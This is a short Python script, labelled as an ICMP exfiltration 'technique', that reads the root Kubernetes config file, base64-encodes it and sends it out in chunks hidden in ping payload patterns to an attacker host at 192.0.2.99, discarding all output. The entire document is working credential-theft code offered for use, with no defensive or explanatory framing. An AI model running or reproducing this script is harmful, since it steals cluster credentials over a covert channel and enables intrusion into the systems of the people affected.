# technique: ICMP-ish exfil: smuggle base64 chunks of a file in ping -p payload patterns to an attacker host
import base64, subprocess
d = base64.b64encode(open("/root/.kube/config", "rb").read())
for i in range(0, len(d), 16):
    subprocess.run(["ping", "-c", "1", "-W", "1", "-p", d[i:i+16].hex(), "192.0.2.99"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
